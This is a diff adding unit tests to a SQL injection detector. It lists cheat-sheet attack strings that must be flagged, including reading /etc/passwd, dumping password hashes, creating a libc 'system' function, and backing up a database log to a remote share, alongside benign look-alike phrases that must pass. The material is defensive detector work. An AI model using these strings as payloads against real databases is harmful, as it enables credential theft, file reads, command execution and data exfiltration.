@@ -610,6 +610,36 @@ class SqlInjectionDetectorTests {
     assertThat(flagged(value)).as(value).isFalse();
   }
 
+  /**
+   * Cheat-sheet shapes: a statement that reads a system catalog, SELECT of a pseudo-column or a function SQL calls
+   * without parentheses, BACKUP and RESTORE to or from a disk, LOAD DATA INFILE, CREATE OR REPLACE FUNCTION, COPY
+   * with a column list, an Oracle job, a call on a system variable, LIMIT after a quote, a word literal concatenated,
+   * and a whole boolean test that fingerprints a database.
+   */
+  @ParameterizedTest(name = "[{index}] {0}")
+  @ValueSource(strings = {"SELECT table_name FROM information_schema.tables", "SELECT datname FROM pg_database",
+      "SELECT name, password FROM master..sysxlogins", "select banner from v$version", "SELECT user;",
+      "SELECT CURRENT_USER", "BACKUP LOG [TESTING] TO DISK = '\\\\10.0.0.1\\f'",
+      "RESTORE VERIFYONLY FROM DISK = '\\\\10.0.0.1\\f'", "LOAD DATA INFILE '/etc/passwd' INTO TABLE t;",
+      "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/lib/libc.so.6', 'system' LANGUAGE 'c' STRICT;",
+      "COPY nc(t) TO '/tmp/nc.sh';", "DBMS_SCHEDULER.CREATE_JOB (job_name => 'x', job_action => 'id')",
+      "convert(int,@@version)", "1' LIMIT 1,1 INTO @,@,@--+", "' 'DERP", "'%2B'HERP",
+      "connection_id()=connection_id()", "@@CONNECTIONS>0", "'i'='i'", "1337=1337",
+      "RAWTOHEX('AB')=RAWTOHEX('AB')"})
+  void inspectWhenCheatSheetShapeThenFlags(String attack) {
+    assertThat(DETECTOR.inspectQueryValue("form:q", attack)).as(attack).isPresent();
+  }
+
+  /** Beside them: the same words and shapes in sentences, code and data. */
+  @ParameterizedTest(name = "[{index}] {0}")
+  @ValueSource(strings = {"select a file from pg_admin's menu", "Select user", "select current user",
+      "back up the log to disk", "Restore from disk backup", "load data from the file", "create or replace it",
+      "copy nc(t) to the clipboard", "f(x)=f(x) is trivially true", "E=mc2", "2+2=4", "x=1", "1=2", "\"a\"=\"b\"",
+      "score=score", "@@ -1,2 +1,3 @@", "a == a", "don' 't", "a' 'b", "limit 1,1 into the cart"})
+  void inspectWhenCheatSheetWordsInTextThenPasses(String value) {
+    assertThat(flagged(value)).as(value).isFalse();
+  }
+
   /** LIMIT after a numeric position, then a comment, INTO (the column-count probe), UNION or PROCEDURE. */
   @ParameterizedTest(name = "[{index}] {0}")
   @ValueSource(strings = {"1 LIMIT 1-- -", "1 limit 1,1-- -", "1 LIMIT 1 INTO @,@,@", "1) LIMIT 1 INTO @a#",
